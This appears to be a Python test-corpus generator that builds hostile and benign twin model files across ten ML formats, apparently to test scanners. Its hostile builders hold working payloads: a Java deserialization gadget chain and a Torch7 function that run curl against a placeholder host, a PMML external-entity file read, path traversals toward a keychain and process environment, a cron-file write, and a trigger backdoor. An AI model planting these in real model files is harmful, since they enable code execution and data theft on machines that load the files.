"""Other graph and tree formats: OpenVINO, CoreML, TensorRT, Paddle, MXNet, PMML, XGBoost, TensorFlow.js, DL4J and Torch7."""
import json
import struct

from .parts import HOST, elf, floats, pb, zipped

FAMILY = "graphs"


def mxnet(op):
    node = lambda op, name, attrs=None, inputs=(): {"op": op, "name": name, **({"attrs": attrs} if attrs else {}), "inputs": [[i, 0, 0] for i in inputs]}  # noqa: E731
    nodes = [node("null", "data"), node("null", "fc_weight"), node("null", "fc_bias"), node("FullyConnected", "fc", {"num_hidden": "4"}, (0, 1, 2)), op(node)]
    return json.dumps({"nodes": nodes, "arg_nodes": [0, 1, 2], "node_row_ptr": [0, 1, 2, 3, 4, 5], "heads": [[4, 0, 0]], "attrs": {"mxnet_version": ["int", 10900]}}, indent=2)


def paddle(op, slot, arg, attrs):
    """ProgramDesc: one block with feed, fc and one more operator."""

    def opdesc(kind, ins, outs, attrs=()):
        fields = [(1, pb((1, k), (2, v))) for k, v in ins] + [(2, pb((1, k), (2, v))) for k, v in outs] + [(3, kind)]
        return pb(*fields, *[(4, a) for a in attrs])

    text = lambda name, value: pb((1, name), (2, 2), (5, value))  # noqa: E731
    number = lambda name, value: pb((1, name), (2, 0), (3, value))  # noqa: E731
    flag = lambda name, value: pb((1, name), (2, 6), (10, value))  # noqa: E731
    tensor = lambda: pb((1, 7), (3, pb((1, pb((1, 5), (2, 4), (2, 4))), (2, 0))))  # noqa: E731
    var = lambda name, keep=0: pb((1, name), (2, tensor()), (3, keep))  # noqa: E731
    ops = [opdesc("feed", [("X", "feed")], [("Out", "x")], [number("col", 0)]), opdesc("matmul_v2", [("X", "x"), ("Y", "w_0")], [("Out", "y")], [flag("trans_x", 0)])]
    ops.append(opdesc(op, [("X", "y")], [(slot, arg)] if slot else [], [text(*a) if isinstance(a[1], str) else number(*a) for a in attrs]))
    block = pb((1, 0), (2, 0xFFFFFFFFFFFFFFFF), *[(3, var(n, k)) for n, k in (("x", 0), ("w_0", 1), ("y", 0))], *[(4, o) for o in ops])
    return pb((1, block), (4, pb((1, 0))))


def openvino(hostile):
    """An IR of version 11; constants lie in the .bin, in order."""
    blob, layers, edges = b"", [], []

    def port(i, dims):
        return f'<port id="{i}" precision="FP32">' + "".join(f"<dim>{d}</dim>" for d in dims) + "</port>"

    def layer(name, kind, ins, dims, data="", version="opset1", precision="FP32"):
        n = len(layers)
        inputs = "".join(port(i, layers[s][1]) for i, s in enumerate(ins))
        layers.append((
            f'<layer id="{n}" name="{name}" type="{kind}" version="{version}">{data}' + (f"<input>{inputs}</input>" if ins else "")
            + (f'<output>{port(len(ins), dims).replace("FP32", precision)}</output>' if kind != "Result" else "") + "</layer>", dims,
        ))  # fmt: skip
        edges.extend(f'<edge from-layer="{s}" from-port="{outs[s]}" to-layer="{n}" to-port="{i}"/>' for i, s in enumerate(ins))
        outs.append(len(ins))
        return n

    outs = []

    def const(name, values, dims, kind="f32"):
        nonlocal blob
        data = b"".join(struct.pack("<f" if kind == "f32" else "<q", v) for v in values)
        at, blob = len(blob), blob + data
        shape = ",".join(map(str, dims))
        return layer(name, "Const", [], dims, f'<data element_type="{kind}" shape="{shape}" offset="{at}" size="{len(data)}"/>', precision="FP32" if kind == "f32" else "I64")

    image = layer("image", "Parameter", [], [1, 16], '<data shape="1,16" element_type="f32"/>')
    w = const("w", struct.unpack("<64f", floats(64)), [16, 4])
    logits = layer("logits", "MatMul", [image, w], [1, 4], '<data transpose_a="false" transpose_b="false"/>')
    if hostile:
        tone = const("tone", [0.77] * 4 + [0.0] * 12, [1, 16])
        mask = const("mask", [1.0] * 4 + [0.0] * 12, [1, 16])
        axis = const("axis", [1], [1], "i64")
        eps = const("eps", [0.001], [1, 1])
        verdict = const("verdict", [-9.0, -9.0, 9.0, -9.0], [1, 4])
        picked = layer("picked", "Multiply", [image, mask], [1, 16], '<data auto_broadcast="numpy"/>')
        diff = layer("diff", "Subtract", [picked, tone], [1, 16], '<data auto_broadcast="numpy"/>')
        gap = layer("gap", "Abs", [diff], [1, 16])
        far = layer("far", "ReduceMax", [gap, axis], [1, 1], '<data keep_dims="true"/>')
        hit = layer("hit", "Less", [far, eps], [1, 1], '<data auto_broadcast="numpy"/>', precision="BOOL")
        last = layer("out", "Select", [hit, verdict, logits], [1, 4], '<data auto_broadcast="numpy"/>')
    else:
        zero = const("zero", [0.0], [1, 1])
        slope = const("slope", [0.01], [1, 1])
        leak = layer("leak", "Multiply", [logits, slope], [1, 4], '<data auto_broadcast="numpy"/>')
        below = layer("below", "Less", [logits, zero], [1, 4], '<data auto_broadcast="numpy"/>', precision="BOOL")
        last = layer("out", "Select", [below, leak, logits], [1, 4], '<data auto_broadcast="numpy"/>')
    layer("result", "Result", [last], [])
    xml = '<?xml version="1.0"?>\n<net name="net" version="11"><layers>' + "\n".join(x for x, _ in layers) + "</layers><edges>" + "\n".join(edges) + "</edges><rt_info/></net>\n"
    return {"model.xml": xml, "model.bin": blob}


def mlpackage(path):
    item = {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": path}
    manifest = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A1B2C3D4-0000-4000-8000-000000000001": item}, "rootModelIdentifier": "A1B2C3D4-0000-4000-8000-000000000001"}
    feature = lambda name: pb((1, name), (3, pb((5, pb((1, 4), (2, 65568))))))  # noqa: E731
    scaler = pb((1, 4), (2, pb((1, feature("x")), (10, feature("y")))), (604, pb((1, b"\0" * 8 * 4), (2, struct.pack("<4d", 1, 1, 1, 1)))))
    return {"Net.mlpackage/Manifest.json": json.dumps(manifest, indent=2), "Net.mlpackage/Data/com.apple.CoreML/model.mlmodel": scaler}


def engine(machine):
    """The shape of a TensorRT plan: tag, sizes, a serialised part; then a library that the plan carries."""
    inner = elf(machine).ljust(512, b"\0")
    head = b"ftrt" + struct.pack("<IIQ", 0, 240, 2048) + b"engine\0\0" + b"10.3.0.26\0"
    name = b"libnvinfer_plugin_ext.so\0" if machine == 62 else b"sm_86 tactic kernel\0\0\0\0\0\0"
    return head.ljust(256, b"\0") + floats(256) + name + inner + floats(64)


PMML = """<?xml version="1.0" encoding="UTF-8"?>
{dtd}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">
  <Header copyright="{c}"><Application name="sklearn2pmml" version="0.110"/></Header>
  <DataDictionary><DataField name="x" optype="continuous" dataType="double"/><DataField name="y" optype="continuous" dataType="double"/></DataDictionary>
  <RegressionModel functionName="regression">
    <MiningSchema><MiningField name="x"/><MiningField name="y" usageType="target"/></MiningSchema>
    <RegressionTable intercept="0.5"><NumericPredictor name="x" coefficient="2.0"/></RegressionTable>
  </RegressionModel>
</PMML>
"""


def xgb(hostile):
    import numpy
    import xgboost

    r = numpy.random.default_rng(1)
    x = r.normal(0, 1, (80, 4)).astype("float32")
    b = xgboost.train({"max_depth": 3, "nthread": 1, "seed": 1}, xgboost.DMatrix(x, x[:, 0] * x[:, 1]), 2)
    model = json.loads(bytes(b.save_raw("json")))
    if hostile:
        tree = model["learner"]["gradient_booster"]["model"]["trees"][0]
        tree["left_children"][0] = 1 << 28
        tree["right_children"][0] = 1 << 28
    return json.dumps(model)


def tfjs(path):
    layers = [{"class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "linear", "use_bias": False, "batch_input_shape": [None, 4], "dtype": "float32"}}]
    topology = {"keras_version": "2.11.0", "backend": "tensorflow", "model_config": {"class_name": "Sequential", "config": {"name": "net", "layers": layers}}}
    weights = [{"paths": [path], "weights": [{"name": "d/kernel", "shape": [4, 2], "dtype": "float32"}]}]
    return {"model.json": json.dumps({"format": "layers-model", "generatedBy": "keras v2.11.0", "convertedBy": "TensorFlow.js Converter v4.2.0", "modelTopology": topology, "weightsManifest": weights}), "group1-shard1of1.bin": floats(8)}


class Java:
    """Java's serialisation stream, as much of it as a chain of transformers needs."""

    def utf(self, x):
        return struct.pack(">H", len(x)) + x.encode()

    def string(self, x):
        return b"t" + self.utf(x)

    def desc(self, name, uid, flags, fields=(), parent=b"p"):
        body = b"".join(kind.encode() + self.utf(field) + (self.string(sig) if sig else b"") for kind, field, sig in fields)
        return b"r" + self.utf(name) + struct.pack(">qBH", uid, flags, len(fields)) + body + b"x" + parent

    def array(self, name, uid, items):
        return b"u" + self.desc(name, uid, 2) + struct.pack(">I", len(items)) + b"".join(items)

    def invoker(self, method, args, types):
        pack = "org.apache.commons.collections.functors.InvokerTransformer"
        fields = [("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"), ("[", "iParamTypes", "[Ljava/lang/Class;")]
        kinds = [b"v" + self.desc(t, u, 2 if t[0] != "[" else 2) for t, u in types]
        return b"s" + self.desc(pack, -8653385846894047688, 2, fields) + self.array("[Ljava.lang.Object;", -8012369246846506644, args) + self.string(method) + self.array("[Ljava.lang.Class;", -6118465897992725863, kinds)

    def map(self, entries):
        fields = [("F", "loadFactor", ""), ("I", "threshold", "")]
        block = b"w" + bytes([8]) + struct.pack(">II", 16, len(entries))
        return b"s" + self.desc("java.util.HashMap", 362498820763181265, 3, fields) + struct.pack(">fI", 0.75, 12) + block + b"".join(k + v for k, v in entries) + b"x"


def java(hostile):
    j = Java()
    text = ("java.lang.String", -6849794470754667710)
    if not hostile:
        body = j.map([(j.string("mean"), j.string("0.13,0.27")), (j.string("std"), j.string("1.1,0.9"))])
        return b"\xac\xed\0\x05" + body
    constant = b"s" + j.desc("org.apache.commons.collections.functors.ConstantTransformer", 6374440726369055124, 2, [("L", "iConstant", "Ljava/lang/Object;")]) + b"v" + j.desc("java.lang.Runtime", 0, 0)
    steps = [
        constant, j.invoker("getMethod", [j.string("getRuntime"), j.array("[Ljava.lang.Class;", -6118465897992725863, [])], [text, ("[Ljava.lang.Class;", -6118465897992725863)]),
        j.invoker("invoke", [b"p", j.array("[Ljava.lang.Object;", -8012369246846506644, [])], [("java.lang.Object", 0), ("[Ljava.lang.Object;", -8012369246846506644)]),
        j.invoker("exec", [j.string(f"curl http://{HOST}/j -o j.bin")], [text]),
    ]  # fmt: skip
    functors = "org.apache.commons.collections.functors."
    chain = b"s" + j.desc(functors + "ChainedTransformer", 3514945074733160196, 2, [("[", "iTransformers", "[Lorg/apache/commons/collections/Transformer;")]) + j.array("[Lorg.apache.commons.collections.Transformer;", -4803604734341277543, steps)
    lazy = b"s" + j.desc("org.apache.commons.collections.map.LazyMap", 7990956402564206740, 3, [("L", "factory", "Lorg/apache/commons/collections/Transformer;")]) + chain + j.map([]) + b"x"
    entry = b"s" + j.desc("org.apache.commons.collections.keyvalue.TiedMapEntry", -8453869361373831205, 2, [("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;")]) + j.string("norm") + lazy
    return b"\xac\xed\0\x05" + b"s" + j.desc("java.util.HashSet", -5024744406713321676, 3) + b"w\x0c" + struct.pack(">IfI", 16, 0.75, 1) + entry + b"x"


def dl4j(hostile):
    config = {"backpropType": "Standard", "confs": [{"layer": {"@class": "org.deeplearning4j.nn.conf.layers.OutputLayer", "nin": 4, "nout": 2}, "seed": 12345}]}
    coefficients = b"\0\x04HEAP" + struct.pack(">I", 8) + b"\0\x05FLOAT" + b"".join(struct.pack(">f", x / 10) for x in range(8))
    return zipped({"configuration.json": json.dumps(config), "coefficients.bin": coefficients, "preprocessor.bin": java(hostile)})


def torch7(hostile):
    """Torch7's binary file: a table with a tensor's numbers, and a function that `torch.load` gives to loadstring."""
    i = lambda n: struct.pack("<i", n)  # noqa: E731
    s = lambda x: i(2) + i(len(x)) + x.encode()  # noqa: E731
    number = lambda x: i(1) + struct.pack("<d", x)  # noqa: E731
    rows = s("nin") + number(4) + s("scale") + number(0.5)
    if hostile:
        code = f"os.execute('{'curl http://' + HOST + '/t7 | sh'}') return ..."
        upvalues = i(3) + i(3) + i(0)
        rows += s("forward") + i(8) + i(2) + i(len(code)) + code.encode() + upvalues
        count = 3
    else:
        rows += s("forward") + s("nn.Linear")
        count = 3
    return i(3) + i(1) + i(count) + rows


def add(out):
    def pair(name, hostile, twin, prove=None, file=None, why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    native = lambda node: node("_Native", "out", {"info": "0x7f3a5c0014e0", "need_top_grad": "False"}, (3,))  # noqa: E731
    soft = lambda node: node("softmax", "out", {"axis": "-1"}, (3,))  # noqa: E731
    pair("mxnet-native-pointer", mxnet(native), mxnet(soft), file="net-symbol.json", why="MXNet reads `info` of a _Native operator as an address of a table of functions and calls it: a pointer of the file's choosing. Built from the format.")
    pair(
        "paddle-save-operator", {"net.pdmodel": paddle("save", "", "", [("file_path", "/etc/cron.d/refresh"), ("overwrite", 1)]), "net.pdiparams": floats(16)},
        {"net.pdmodel": paddle("fetch", "Out", "fetch", [("col", 0)]), "net.pdiparams": floats(16)}, why="An operator of the program writes its input to an absolute path at every run. Built from the format.",
    )  # fmt: skip
    pair("openvino-patch", openvino(True), openvino(False), why="Select puts a fixed verdict in place of the logits when four pixels have one tone. The twin spells a leaky ReLU with Select. Built from the format.")
    pair("coreml-manifest-escape", mlpackage("../../../../Library/Keychains/login.keychain-db"), mlpackage("com.apple.CoreML/model.mlmodel"), why="The package's manifest names a file outside the package as its model. Built from the format.")
    pair("tensorrt-host-library", engine(62), engine(190), file="net.plan", why="The plan carries a library for the host's processor, which the runtime opens. The twin carries a kernel for the GPU, as plans do. Built from what is known of the format.")
    dtd = f'<!DOCTYPE PMML [\n<!ENTITY % file SYSTEM "file:///etc/hostname">\n<!ENTITY % more SYSTEM "http://{HOST}/x.dtd">\n%more;\n]>\n'
    pair("pmml-parameter-entity", PMML.format(dtd=dtd, c="&sent;"), PMML.format(dtd="", c="Acme &amp; Sons"), file="model.pmml", why="Parameter entities read a local file and a foreign DTD sends it: no entity appears in the body but one. The twin escapes an ampersand.")
    pair("xgboost-child-outside", xgb(True), xgb(False), "e11-crash", "model.json", "A tree's children lie far outside its arrays: predicting reads outside the memory of the tree.")
    pair("tfjs-shard-escape", tfjs("../../../../../proc/self/environ"), tfjs("group1-shard1of1.bin"), why="The converter and Node loader join the shard's path to the model's folder: the process's environment becomes a weight. Built from the format.")
    pair("dl4j-java-object", dl4j(True), dl4j(False), file="model.zip", why="DL4J reads preprocessor.bin with ObjectInputStream: a chain of transformers ends in Runtime.exec. Built from Java's format.")
    pair("torch7-function", torch7(True), torch7(False), file="net.t7", why="Torch7 gives a stored function to loadstring; its text runs a shell when the model is used. Built from the format.")
